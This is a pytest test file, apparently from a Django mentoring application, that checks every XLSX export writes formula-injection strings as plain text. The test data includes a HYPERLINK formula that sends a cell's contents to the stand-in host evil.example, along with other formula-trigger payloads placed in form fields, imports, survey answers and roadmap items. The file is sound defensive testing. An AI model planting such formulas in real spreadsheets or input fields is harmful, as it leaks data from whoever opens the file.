"""Issue 13 point 1: no XLSX the product produces can carry a formula.

Poisoned strings reach the data the way an attacker would put them there
(the anonymous "Стать наставником" form, a survey answer on a personal link,
an imported participant, a roadmap activity); every export URL of the URL
conf is then downloaded and every cell read back with openpyxl."""

import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from mentoring.factories import ConsentFactory, ParticipantFactory
from mentoring.models import MentorStatus, Participant
from mentoring.xlsx import FORMULA_TRIGGERS, table_xlsx
from reports import services as report_services
from reports.models import ReportJob
from reports.tests.helpers import period_now
from roadmaps.services import roadmap_import
from surveys.tests.helpers import answer, send, survey_with

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Подробнее")'
PAYLOADS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _routes(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from _routes(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern)


# Every route that answers with an XLSX file, and the report builder routes
# (they answer with the file of the report, or with a job to download).
XLSX_ROUTES = {
    "bank/<slug:side>/export.xlsx",
    "import/template.xlsx",
    "surveys/campaigns/<int:pk>/results.xlsx",
    "roadmaps/<int:pk>/export.xlsx",
    "reports/build/<slug:kind>/",
    "reports/jobs/<int:pk>/download/",
    "consents/register.xlsx",
    "surveys/campaigns/<int:pk>/links.xlsx",
    # Answers with XLSX for ?format=xlsx (the payment register).
    "documents/payments/",
    # The department's collection: organisation names are its text.
    "department/sbornik/<int:pk>/sbornik.xlsx",
}
# Pages that answer with an XLSX for a parameter and are not named *.xlsx.
XLSX_BY_PARAMETER = {"documents/payments/"}


def test_the_list_of_xlsx_routes_is_complete():
    """A new export route must be added to the walk below."""
    found = {r for r in _routes() if r.endswith(".xlsx") or r.startswith("reports/")}
    found |= XLSX_BY_PARAMETER & set(_routes())
    found -= {"reports/", "reports/jobs/<int:pk>/"}
    assert found == XLSX_ROUTES


def _cells(content):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(content, expected=()):
    """No cell of the workbook is a formula; each ``expected`` string is
    present as the text of some cell."""
    texts = set()
    for cell in _cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts.add(cell.value)
            assert not cell.value.startswith(FORMULA_TRIGGERS) or cell.quotePrefix, (
                cell.coordinate,
                cell.value,
            )
    for text in expected:
        assert any(text in t for t in texts), text


@pytest.fixture
def poisoned(cast, client):
    """The school's data with formula payloads in every kind of text field."""
    school = cast.school
    # 1. Anonymous "Стать наставником" application.
    url = f"/o/{school.slug}/nastavnichestvo/stat-nastavnikom/"
    page = client.get(url)
    reply = client.post(
        url,
        {
            "last_name": HYPERLINK,
            "first_name": "Ольга",
            "patronymic": "",
            "email": "sokolova@example.org",
            "phone": "",
            "target_group": "teacher",
            "position": "+1+2",
            "subjects": "@SUM(A1:A2)",
            "experience_years": "15",
            "competencies": "-2+3",
            "motivation": "Хочу помогать",
            "consent": "on",
            "consent_text": page.context["consent_text"].pk,
        },
    )
    assert reply.status_code == 302, reply.content.decode()[:2000]
    assert Participant.objects.filter(
        organization=school, mentor_status=MentorStatus.POTENTIAL, last_name=HYPERLINK
    ).exists()
    # 2. Participants as an import would store them.
    mentor = ParticipantFactory(
        organization=school,
        last_name="@SUM(A1:A2)",
        first_name="\t=1+1",
        is_mentor=True,
        mentor_status=MentorStatus.APPROVED,
        competencies=HYPERLINK,
    )
    mentee = ParticipantFactory(
        organization=school, last_name="-2+3", first_name="\r=1+1", requests=HYPERLINK, email=""
    )
    # The mentor's consent: the consent register lists the name.
    ConsentFactory(participant=mentor, kind="processing")
    # 3. A survey answer on a personal link (the mentor has not answered: the
    # XLSX of links lists them).
    survey, (text_q,) = survey_with(school, [{"kind": "long_text", "text": "Отзыв"}])
    campaign, tokens = send(survey, [mentee, mentor])
    answer(campaign, tokens[mentee.pk], {f"q{text_q.pk}": [HYPERLINK]})
    # 4. A roadmap whose activity title is a payload.
    item = {
        "number": "1.1",
        "title": HYPERLINK,
        "content": "+1+2",
        "deadline_text": "",
        "responsible": "@SUM(A1:A2)",
        "expected_result": "-2+3",
        "indicators": "",
        "documents": "",
        "children": [],
    }
    stage = {k: "" for k in item if k != "children"}
    stage.update({"number": "1", "title": "Этап", "activities": [item]})
    roadmap = roadmap_import(
        organization=school,
        parsed={"title": "Дорожная карта", "stages": [stage]},
        period_start=2024,
        period_end=2025,
    )
    return {"mentor": mentor, "mentee": mentee, "campaign": campaign, "roadmap": roadmap}


def test_every_xlsx_export_writes_formula_payloads_as_text(
    cast, client_for, poisoned, monkeypatch, django_capture_on_commit_callbacks
):
    client = client_for(cast.methodist)
    walked = set()

    def download(route, url, expected=(), method="get", data=None):
        reply = getattr(client, method)(url, data or {})
        assert reply.status_code == 200, (url, reply.status_code)
        content = b"".join(reply.streaming_content) if reply.streaming else reply.content
        assert content[:2] == b"PK", url
        assert_no_formula(content, expected)
        walked.add(route)

    for side in ("mentees", "mentors", "potential-mentors"):
        download("bank/<slug:side>/export.xlsx", f"/bank/{side}/export.xlsx", [HYPERLINK])
    download("import/template.xlsx", "/import/template.xlsx")
    download(
        "surveys/campaigns/<int:pk>/results.xlsx",
        f"/surveys/campaigns/{poisoned['campaign'].pk}/results.xlsx",
        [HYPERLINK, "-2+3"],
    )
    download(
        "roadmaps/<int:pk>/export.xlsx",
        f"/roadmaps/{poisoned['roadmap'].pk}/export.xlsx",
        [HYPERLINK, "+1+2", "@SUM(A1:A2)", "-2+3"],
    )
    download("consents/register.xlsx", "/consents/register.xlsx", ["@SUM(A1:A2)"])
    download(
        "surveys/campaigns/<int:pk>/links.xlsx",
        f"/surveys/campaigns/{poisoned['campaign'].pk}/links.xlsx",
        ["@SUM(A1:A2)"],
        "post",
    )
    download(
        "documents/payments/",
        "/documents/payments/?format=xlsx&start=2026-09-01&end=2027-08-31",
    )
    period = period_now().code
    builds = {
        "analytic": {"analytic-period": period, "analytic-fmt": "xlsx"},
        "register": {"register-period": period},
        "mentors": {},
        "mentees": {},
        "potential-mentors": {},
    }
    for kind, data in builds.items():
        expected = [HYPERLINK] if kind in ("mentees", "potential-mentors") else []
        download("reports/build/<slug:kind>/", f"/reports/build/{kind}/", expected, "post", data)
    # The same reports built as background jobs, downloaded from the job.
    monkeypatch.setattr(report_services, "BACKGROUND_PARTICIPANTS", 0)
    for kind in ("mentees", "potential-mentors"):
        with django_capture_on_commit_callbacks(execute=True):
            reply = client.post(f"/reports/build/{kind}/", {})
        assert reply.status_code == 302
        job = ReportJob.objects.filter(kind=kind).latest("pk")
        download(
            "reports/jobs/<int:pk>/download/", f"/reports/jobs/{job.pk}/download/", [HYPERLINK]
        )
    specialist = client_for(cast.specialist)
    reply = specialist.post("/reports/build/monitoring/", {"quarter": report_quarter(specialist)})
    assert reply.status_code == 200
    assert_no_formula(reply.content)
    # The collection of analytic reports: the school's name is a payload.
    from reports.tests.access import collection_request

    type(cast.school).objects.filter(pk=cast.school.pk).update(short_name=HYPERLINK, name="+1+2")
    item = collection_request(cast, submitted=True)
    client = specialist
    download(
        "department/sbornik/<int:pk>/sbornik.xlsx",
        f"/department/sbornik/{item.pk}/sbornik.xlsx",
        [HYPERLINK, "+1+2"],
    )
    assert walked == XLSX_ROUTES


def report_quarter(client):
    form = client.get("/reports/").context["forms"]["monitoring"]
    return form.fields["quarter"].choices[0][0]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_table_writer_keeps_each_formula_trigger_as_text(payload):
    content = table_xlsx(title="Лист", columns=[("A", 10), ("B", 10)], rows=[[payload, "обычный"]])
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == payload
    assert cell.quotePrefix


def test_table_writer_drops_control_characters_instead_of_failing():
    content = table_xlsx(title="Лист", columns=[("A", 10)], rows=[["Текст\x0bиз Word\x01"]])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "Текстиз Word"
